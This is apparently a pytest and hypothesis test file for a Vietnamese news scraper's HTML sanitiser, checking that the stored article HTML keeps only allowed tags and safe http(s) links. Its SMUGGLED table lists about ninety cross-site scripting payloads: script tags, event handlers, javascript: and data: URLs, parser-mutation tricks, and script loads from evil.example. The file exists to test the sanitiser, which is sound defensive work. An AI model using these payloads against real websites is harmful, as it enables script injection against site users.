"""`body_html` is safe to show, whatever the page holds, and shows the same text as `body`.

It is read again by two parsers: lxml's, and the one of `nh3`, which builds the tree as a browser
does; neither may find anything but the contract's tags and attributes.
"""

from __future__ import annotations

import re
from typing import Any

import lxml.html
import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hnnscraper import NotAnArticle
from hnnscraper.items import Block, Run
from hnnscraper.normalise import body as normalised
from hnnscraper.normalise.text import clean
from tests.page.pages import IMG, P1, P2, P3, page, read

TAGS = set(
    "p h2 h3 blockquote ul ol li table tr th td a strong em br figure img figcaption".split()
)
ATTRIBUTES = {"a": {"href"}, "img": {"src", "alt"}}
_SAFE_URL = re.compile(r"https?://[^\s\"<>`]+")

# Known ways to bring script into a page: tags, handlers, addresses, and tricks on the parser.
SMUGGLED = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "script with a source": "<script src=//evil.example/x.js></script>",
    "script unclosed": "<script>alert(1)//",
    "script nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with a slash": "<script/x>alert(1)</script>",
    "script with a NUL": "<scr\0ipt>alert(1)</scr\0ipt>",
    "script escaped": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script escaped twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "script as UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "script in full width": "＜script＞alert(1)＜/script＞",
    "handler": "<b onclick=alert(1)>x</b>",
    "handler of an image": "<img src=x onerror=alert(1)>",
    "handler after a slash": "<img/src=x/onerror=alert(1)>",
    "handler with a new line": "<img src=x\nonerror\n=\nalert(1)>",
    "handler of a body": "<body onload=alert(1)>",
    "handler of details": "<details open ontoggle=alert(1)>x</details>",
    "handler of a marquee": "<marquee onstart=alert(1)>x</marquee>",
    "handler of a video": "<video><source onerror=alert(1)></video>",
    "handler by autofocus": "<input autofocus onfocus=alert(1)>",
    "javascript address": "<a href='javascript:alert(1)'>một liên kết</a>",
    "javascript in capitals": "<a href='JaVaScRiPt:alert(1)'>một liên kết</a>",
    "javascript with a tab": "<a href='java\tscript:alert(1)'>một liên kết</a>",
    "javascript with a tab's entity": "<a href='java&Tab;script:alert(1)'>một liên kết</a>",
    "javascript with a new line": "<a href='java&NewLine;script&colon;alert(1)'>một liên kết</a>",
    "javascript by numbers": "<a href='&#106;avascript&#0000058;alert(1)'>một liên kết</a>",
    "javascript behind a control": "<a href='\x01javascript:alert(1)'>một liên kết</a>",
    "javascript behind spaces": "<a href='  \u00a0javascript:alert(1)'>một liên kết</a>",
    "javascript by percent": "<a href='javascript%3Aalert(1)'>một liên kết</a>",
    "javascript behind http": "<a href='http://javascript:alert(1)'>một liên kết</a>",
    "javascript with slashes": "<a href='javascript://%0aalert(1)'>một liên kết</a>",
    "data address": "<a href='data:text/html,<script>alert(1)</script>'>một liên kết</a>",
    "data address in base64": "<a href='data:text/html;base64,PHNjcmlwdD4='>một liên kết</a>",
    "vbscript address": "<a href='vbscript:msgbox(1)'>một liên kết</a>",
    "file address": "<a href='file:///etc/passwd'>một liên kết</a>",
    "image from script": "<img src='javascript:alert(1)'>",
    "image from data": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "image from a set": "<img srcset='javascript:alert(1) 1x'>",
    "image put off": "<img data-src='javascript:alert(1)//a.jpg'>",
    "quote in an address": "<a href='https://a.example/\" onmouseover=\"alert(1)'>một liên kết</a>",
    "quote in an image": "<img src='https://a.example/\"onerror=\"alert(1).jpg'>",
    "quote in an alt": "<img src=/a/b.jpg alt='\"><script>alert(1)</script>'>",
    "backquote in an alt": "<img src=/a/b.jpg alt='``onerror=alert(1)'>",
    "quote in a title": "<a href=/x title='\"><img src=x onerror=alert(1)>'>một liên kết</a>",
    "svg": "<svg onload=alert(1)><circle/></svg>",
    "svg with script": "<svg><script>alert(1)</script></svg>",
    "svg with an animation": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "svg with a link": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "svg with HTML": "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
    "math": "<math><mtext><p onclick=alert(1)>x</p></mtext></math>",
    "math with a link": "<math href='javascript:alert(1)'>x</math>",
    "style": "<style>@import'javascript:alert(1)';</style>",
    "style attribute": "<b style='background:url(javascript:alert(1))'>x</b>",
    "style expression": "<b style='width:expression(alert(1))'>x</b>",
    "style binding": "<b style='-moz-binding:url(//evil.example/x.xml#x)'>x</b>",
    "iframe": "<iframe src='javascript:alert(1)'></iframe>",
    "iframe with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='javascript:alert(1)'></object>",
    "embed": "<embed src='javascript:alert(1)'>",
    "applet": "<applet code=evil></applet>",
    "frame set": "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "link to a sheet": "<link rel=stylesheet href='javascript:alert(1)'>",
    "import": "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "base": "<base href='javascript:alert(1)//'>",
    "form": "<form action='javascript:alert(1)'><button>Gửi</button></form>",
    "form action of a button": "<button formaction='javascript:alert(1)'>Gửi</button>",
    "input": "<input type=image src='javascript:alert(1)'>",
    "is index": "<isindex action='javascript:alert(1)' type=image>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "noembed": "<noembed><img src=x onerror=alert(1)></noembed>",
    "plain text": "<xmp><img src=x onerror=alert(1)></xmp>",
    "title in svg": "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "mutation by math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img "
    "src=1 onerror=alert(1)&gt;'>",
    "mutation by form": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path "
    "id='</style><img onerror=alert(1) src>'>",
    "mutation by a select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "comment": "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "comment of a kind": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "bogus comment": "<? ><img src=x onerror=alert(1)>",
    "bogus doctype": "<!x><img src=x onerror=alert(1)>",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "CDATA in svg": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "broken tags": "<<a href=x onclick=alert(1)>><b <script>alert(1)</script>x",
    "tag in a tag": "<b <img src=x onerror=alert(1)>>x</b>",
    "attribute without a value": "<b onclick>x</b>",
    "attribute twice": "<a href=/x href='javascript:alert(1)'>một liên kết</a>",
    "name space": "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script>",
    "custom element": "<x-y onclick=alert(1)>x</x-y>",
    "entity without an end": "&lt;img src=x onerror=alert(1)&gt",
    "target": "<a href=/x target=_blank ping=//evil.example>một liên kết</a>",
    "other scheme": "<a href='intent://x#Intent;scheme=http;end'>một liên kết</a>",
    "no scheme": "<a href='//evil.example/x'>một liên kết</a>",
}  # fmt: skip

# Where it is put; `{}` takes it as it is, `[]` as the text of an attribute.
PLACES = {
    "paragraph": P1 + "<p>Trong đoạn này có {} và vài chữ nữa cho đủ.</p>" + P2,
    "between paragraphs": P1 + "{}" + P2,
    "subhead": P1 + "<h2>Chợ {} quê</h2>" + P2 + P3,
    "caption": P1 + f"<figure>{IMG}<figcaption>Toàn cảnh {{}} chợ</figcaption></figure>" + P2,
    "caption under a break": P1 + f"<p>{IMG}<br>Toàn cảnh {{}} chợ</p>" + P2,
    "link": P1 + "<p>Xem <a href='https://a.example/'>ở {} đây</a> để biết thêm.</p>" + P2,
    "cell": P1 + "<table><tr><td>Rau {}</td><td>Hoa</td></tr></table>" + P2,
    "list": P1 + "<ul><li>Rau {} tươi;</li><li>Hoa.</li></ul>" + P2,
    "quote": P1 + "<blockquote>Rau {} năm nay rất tươi.</blockquote>" + P2,
    "lead": "<p><b>{} Hàng năm cứ đến ngày này chợ lại đông vui đến tối mịt.</b></p>" + P1 + P2,
    "bold": P1 + "<p><b>Rau {} xanh</b> năm nay rất tươi và rẻ hơn mọi năm.</p>" + P2,
    "alt": P1 + "<figure><img src=/a/b.jpg alt='[]'><figcaption>Chợ</figcaption></figure>" + P2,
    "title of a link": P1 + "<p>Xem <a href=/x title='[]'>ở đây</a> để biết thêm về chợ.</p>" + P2,
    "address": P1 + "<p>Xem <a href='[]'>ở đây</a> để biết thêm về chợ này.</p>" + P2,
    "address of a picture": P1 + "<p><img src='[]'></p>" + P2,
    "class": P1 + "<p class='[]'>Rau xanh năm nay rất tươi và rẻ hơn mọi năm.</p>" + P2,
}  # fmt: skip


def faults(html: str) -> list[str]:
    """What in clean HTML the contract does not allow, as lxml's parser sees it."""
    found = []
    for el in lxml.html.fragment_fromstring(html, create_parent="div").iterdescendants():
        if not isinstance(el.tag, str) or el.tag not in TAGS:
            found.append(str(el.tag))
            continue
        for name, value in el.attrib.items():
            text = str(value)
            if name not in ATTRIBUTES.get(el.tag, ()):
                found.append(f"{el.tag} {name}")
            elif name != "alt" and not _SAFE_URL.fullmatch(text):
                found.append(f"{el.tag} {name}={text!r}")
    return found


def as_browser(html: str) -> str:
    """The same through a parser like a browser's, with only the contract's tags kept."""
    return nh3.clean(
        html, tags=TAGS, attributes=ATTRIBUTES, url_schemes={"http", "https"}, link_rel=None
    )


def shape(html: str) -> list[tuple[str, str, dict[str, str]]]:
    """Tags, texts and attributes, however they are written down."""
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    return [
        (str(el.tag), (el.text or "") + "|" + (el.tail or ""), dict(el.attrib))
        for el in root.iter()
        if el.tag != "tbody"  # a browser puts it into every table
    ]


def shown(html: str) -> list[str]:
    """The paragraphs a reader sees, captions aside; the cells of a row joined as in `body`."""
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    for figure in root.iter("figure"):
        figure.drop_tree() if figure.getparent() is not None else None
    found = []
    for el in root.iter("p", "h2", "h3", "li", "tr"):
        if el.tag == "tr":
            found.append(clean(" | ".join(clean(cell.text_content()) for cell in el)))
        else:
            found.append(clean(el.text_content()))
    return [text for text in found if text]


def check(html: str, body: str) -> None:
    assert faults(html) == []
    assert shape(as_browser(html)) == shape(html)
    assert shown(html) == [paragraph for paragraph in body.split("\n\n") if paragraph]


# At the very beginning of the text these swallow all of it: nothing is left to make a record of.
SWALLOWING = ("script unclosed", "mutation by math")


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("name", SMUGGLED)
def test_nothing_is_smuggled(place: str, name: str) -> None:
    if place == "lead" and name in SWALLOWING:
        with pytest.raises(NotAnArticle):
            read(page(PLACES[place].replace("{}", SMUGGLED[name])))
        return
    smuggled = SMUGGLED[name]
    inside = smuggled.replace("'", "&#39;")
    text = PLACES[place].replace("{}", smuggled).replace("[]", inside)
    record = read(page(text))
    check(record["body_html"], record["body"])


def test_what_is_allowed_is_kept() -> None:
    text = (
        f"{P1}<h2>Rau và hoa</h2><h4>Giá cả</h4><p>Rau <b>rất</b> <i>tươi</i>, xem <a href='/x'>ở "
        "đây</a> &amp; ở kia &lt;b&gt;.</p><ul><li>Rau;</li><li>Hoa.</li></ul>"
        "<ol><li>Một.</li></ol><blockquote>Rau năm nay rất tươi và rất rẻ.</blockquote>"
        "<table><tr><th>Loại</th><th>Giá</th></tr><tr><td>Rau</td><td>5.000</td></tr></table>"
        f"<figure>{IMG}<figcaption>Toàn cảnh chợ. Ảnh: Hữu Phúc</figcaption></figure>{P2}"
    )
    record = read(page(text))
    for part in (
        "<h2>Rau và hoa</h2>",
        "<h3>Giá cả</h3>",
        '<p>Rau <strong>rất</strong> <em>tươi</em>, xem <a href="https://huengaynay.vn/x">ở đây</a>'
        " &amp; ở kia &lt;b&gt;.</p>",
        "<ul><li>Rau;</li><li>Hoa.</li></ul>",
        "<ol><li>Một.</li></ol>",
        "<blockquote><p>Rau năm nay rất tươi và rất rẻ.</p></blockquote>",
        "<table><tr><th>Loại</th><th>Giá</th></tr><tr><td>Rau</td><td>5.000</td></tr></table>",
        'cho-que.jpg" alt="Toàn cảnh chợ"><figcaption>Toàn cảnh chợ (Ảnh: Hữu Phúc)</figcaption>',
    ):
        assert part in record["body_html"]
    check(record["body_html"], record["body"])


def test_a_letter_keeps_a_mark_that_stands_in_the_next_run() -> None:
    runs = [Run("ch"), Run("a"), Run("\u0301\u0307b", strong=True)]
    assert normalised.html([Block("p", runs)], [], "") == "<p>ch\u00e1\u0307<strong>b</strong></p>"


# --- any paragraphs at all ----------------------------------------------------------------------

_SIGNS = ["<b>", "&amp;", "]]>", "-->", "</p>", "'", '"', " ", "\u00a0", "\u200b", "javascript:"]
_MARKED = ["Huế", "a", "\u0301", "\u0307b", "\u1100", "\u1161", "\u0302" * 20]  # across runs, too
_TEXTS = st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=30) | st.sampled_from(
    [*_SIGNS, *_MARKED]
)
_HREFS = st.none() | st.text(max_size=30) | st.sampled_from(
    ["/x", "https://a.example/?a=1&b=2", "javascript:alert(1)", "//[", 'https://a/"onclick="x']
)  # fmt: skip
_RUNS = st.lists(st.builds(Run, _TEXTS, st.booleans(), st.booleans(), _HREFS), max_size=4)
_CELLS = st.lists(st.tuples(st.sampled_from(["td", "th"]), _RUNS), min_size=1, max_size=3)


def _block(kind: Any, runs: Any, group: int, cells: Any) -> Block:
    return Block(kind, [] if kind == "row" else runs, None, group, cells if kind == "row" else [])


_KINDS = st.sampled_from(["p", "h2", "h3", "blockquote", "ul", "ol", "row"])
_BLOCKS = st.lists(st.builds(_block, _KINDS, _RUNS, st.integers(1, 2), _CELLS), max_size=6)


@given(_BLOCKS)
def test_any_blocks_show_the_same_text(blocks: list[Block]) -> None:
    html = normalised.html(blocks, [], "https://huengaynay.vn/a-1.html")
    assert faults(html) == []
    assert shape(as_browser(html)) == shape(html)
    squeezed = "".join("".join(shown(html)).replace("|", "").split())
    plain = "".join(normalised.plain(blocks).replace("|", "").split())
    assert squeezed == plain
